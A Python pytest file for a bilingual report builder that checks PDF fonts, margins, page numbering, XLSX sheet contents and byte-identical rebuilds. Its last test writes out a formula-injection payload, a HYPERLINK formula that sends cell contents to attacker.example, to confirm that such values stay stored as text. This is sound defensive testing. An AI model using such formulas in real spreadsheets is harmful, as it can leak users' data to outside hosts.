"""The rendered report: PDF pages as images, embedded fonts, XLSX sheets, determinism."""

import copy
import ctypes
import io

import numpy as np
import pytest

from mieval.core.reports.payload import payload_hash
from mieval.reports.build import report_build

#: Blank strip checked on each side of every page: 10 mm at 72 dpi (the margins are 15 mm).
STRIP = 28
TITLES = {
    "zh": ("示范基地发展趋势", "新增市场主体数量（个，均值）"),
    "en": ("Demonstration base development trends", "Newly established market entities"),
}


@pytest.fixture(scope="module")
def pdfs(sample_payload):
    h = payload_hash(sample_payload)
    return {
        lang: report_build(sample_payload, content_hash=h, lang=lang, fmt="pdf")
        for lang in ("zh", "en")
    }


def _fonts(page) -> set[str]:
    import pypdfium2.raw as pdfium_c

    textpage = page.get_textpage()
    names = set()
    buffer = ctypes.create_string_buffer(256)
    flags = ctypes.c_int()
    for index in range(textpage.count_chars()):
        pdfium_c.FPDFText_GetFontInfo(textpage.raw, index, buffer, 256, ctypes.byref(flags))
        names.add(buffer.value.decode("latin-1").split("+", 1)[-1])
    return names


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_pdf_pages_carry_text_in_noto_cjk_and_nothing_overflows(pdfs, lang):
    import pypdfium2

    document = pypdfium2.PdfDocument(pdfs[lang])
    texts = [document[i].get_textpage().get_text_range() for i in range(len(document))]
    # the cover, the table of contents with page numbers, the trend table
    assert len(document) >= 6
    title, first_row = TITLES[lang]
    trend_page = next(i for i, t in enumerate(texts) if t.startswith(title))
    assert first_row in texts[trend_page]
    assert "11,740" in texts[trend_page] and "7.6%" in texts[trend_page]
    # Chinese glyphs come from Noto Sans CJK (no .notdef boxes): text extraction gives the
    # Chinese back and the font drawing it is embedded
    assert "示范基地" in texts[0] or lang == "en"
    assert any(name.startswith("Noto-Sans-CJK-SC") for name in _fonts(document[trend_page]))
    # page numbers "n / total" at the foot of every page but the cover
    assert f"3 / {len(document)}" in texts[2]
    for index in range(len(document)):
        image = np.asarray(document[index].render(scale=1).to_pil().convert("L"))
        # no table or chart reaches into the outer 10 mm of the page
        assert image[:, :STRIP].min() > 250, f"page {index + 1} overflows on the left"
        assert image[:, -STRIP:].min() > 250, f"page {index + 1} overflows on the right"
        # and the page is not blank
        assert image.min() < 100
    document.close()


def test_pdf_table_of_contents_names_pages(pdfs):
    import pypdfium2

    document = pypdfium2.PdfDocument(pdfs["en"])
    contents = document[1].get_textpage().get_text_range()
    assert "Contents" in contents
    # "Demonstration base development trends ........ 3"
    line = next(x for x in contents.splitlines() if x.startswith("Demonstration base dev"))
    assert line.rstrip().endswith("3")
    document.close()


def test_rebuilding_from_the_same_snapshot_gives_identical_files(sample_payload, pdfs):
    h = payload_hash(sample_payload)
    for fmt in ("html", "xlsx"):
        first = report_build(sample_payload, content_hash=h, lang="zh", fmt=fmt)
        second = report_build(sample_payload, content_hash=h, lang="zh", fmt=fmt)
        assert first == second, fmt
    again = report_build(sample_payload, content_hash=h, lang="zh", fmt="pdf")
    assert again == pdfs["zh"]


def test_html_report_prints_the_hash_and_links_numbers_to_their_values(sample_payload):
    h = payload_hash(sample_payload)
    html = report_build(
        sample_payload,
        content_hash=h,
        lang="en",
        fmt="html",
        lineage=f"/campaigns/file/lineage/?snapshot={h}&",
    ).decode()
    assert f'<div class="hash" id="snapshot-hash">{h}</div>' in html
    assert (
        f'<a href="/campaigns/file/lineage/?snapshot={h}&amp;indicator=new_market_entities'
        f'&amp;year=2016">11,740</a>'
    ) in html
    assert "<script" not in html


def test_xlsx_holds_the_reforms_cases_and_exchange(sample_payload):
    from openpyxl import load_workbook

    from mieval.reports.tests.test_content import EXCHANGE, PRACTICES

    payload = {**sample_payload, "practices": PRACTICES, "exchange": EXCHANGE}
    book = load_workbook(
        io.BytesIO(report_build(payload, content_hash=payload_hash(payload), lang="en", fmt="xlsx"))
    )

    assert list(book["reforms"].iter_rows(values_only=True)) == [
        ("policy_area", "name_zh", "name_en", "category", "reforms"),
        ("talent", "人才", "Talent", "enterprise", 1),
        ("talent", "人才", "Talent", "region", 2),
        ("ip", "知识产权", "Intellectual property", "region", 2),
    ]
    assert [row[:5] for row in book["typical"].iter_rows(values_only=True)][1:] == [
        ("case", "platform", "众创空间联盟", None, "MIE-2016-001")
    ]
    assert list(book["exchange"].iter_rows(values_only=True))[1:4] == [
        ("proposed", 1, 0, 0),
        ("contacted", 1, 1, 0),
        ("agreed", 1, 1, 1),
    ]


def test_xlsx_holds_every_table_with_raw_values(sample_payload):
    from openpyxl import load_workbook

    h = payload_hash(sample_payload)
    book = load_workbook(
        io.BytesIO(report_build(sample_payload, content_hash=h, lang="zh", fmt="xlsx"))
    )
    assert book.sheetnames == [
        "metadata",
        "trend",
        "classification",
        "findings",
        "rankings",
        "audit",
        "panels",
        "reforms",
        "typical",
        "reform_items",
        "exchange",
        "network",
        "narrative",
        "judgement_tables",
        "bases",
        "values",
    ]
    meta = dict(book["metadata"].iter_rows(values_only=True))
    assert meta["snapshot_hash"] == h
    assert meta["framework_version"] == 1
    trend = list(book["trend"].iter_rows(values_only=True))
    assert trend[0][:4] == ("indicator", "2016", "2017", "2018")
    assert trend[1][0] == "new_market_entities"
    assert round(trend[1][1]) == 11740  # full precision stored, the poster's 11740 rounded
    assert trend[1][7] == pytest.approx(0.076, abs=0.0005)
    values = list(book["values"].iter_rows(values_only=True))
    assert len(values) == len(sample_payload["values"]) + 1
    assert list(values[1]) == sample_payload["values"][0]


def test_base_profiles_are_one_page_pdfs_with_chinese_text(sample_payload):
    import pypdfium2

    from mieval.reports.build import profiles_build

    h = payload_hash(sample_payload)
    codes = ["MIE-2016-001", "MIE-2017-050"]
    files = profiles_build(sample_payload, content_hash=h, lang="zh", codes=codes)
    assert sorted(files) == codes
    for code, data in files.items():
        document = pypdfium2.PdfDocument(data)
        assert len(document) in (1, 2)
        text = document[0].get_textpage().get_text_range()
        assert code in text
        assert "新增市场主体数量" in text or "国家级高层次人才数量" in text
        assert h in text.replace("\r", "").replace("\n", "")
        image = np.asarray(document[0].render(scale=1).to_pil().convert("L"))
        assert image[:, :STRIP].min() > 250 and image[:, -STRIP:].min() > 250
        document.close()
    # rebuilt: the same bytes
    again = profiles_build(sample_payload, content_hash=h, lang="zh", codes=codes)
    assert again == files


def test_xlsx_text_starting_with_an_equals_sign_stays_text(sample_payload):
    from openpyxl import load_workbook

    payload = copy.deepcopy(sample_payload)
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    payload["narrative"]["problems"] = {"zh": formula, "en": formula}
    payload["bases"][0]["name_en"] = "=1+1"

    data = report_build(payload, content_hash=payload_hash(payload), lang="en", fmt="xlsx")
    book = load_workbook(io.BytesIO(data))

    narrative = {
        row[0].value: row[3]
        for row in book["narrative"].iter_rows(min_row=2)
        if row[1].value == "narrative"
    }
    assert (narrative["problems"].value, narrative["problems"].data_type) == (formula, "s")
    name = book["bases"]["C2"]
    assert (name.value, name.data_type) == ("=1+1", "s")
    formulas = [
        (sheet.title, cell.coordinate)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
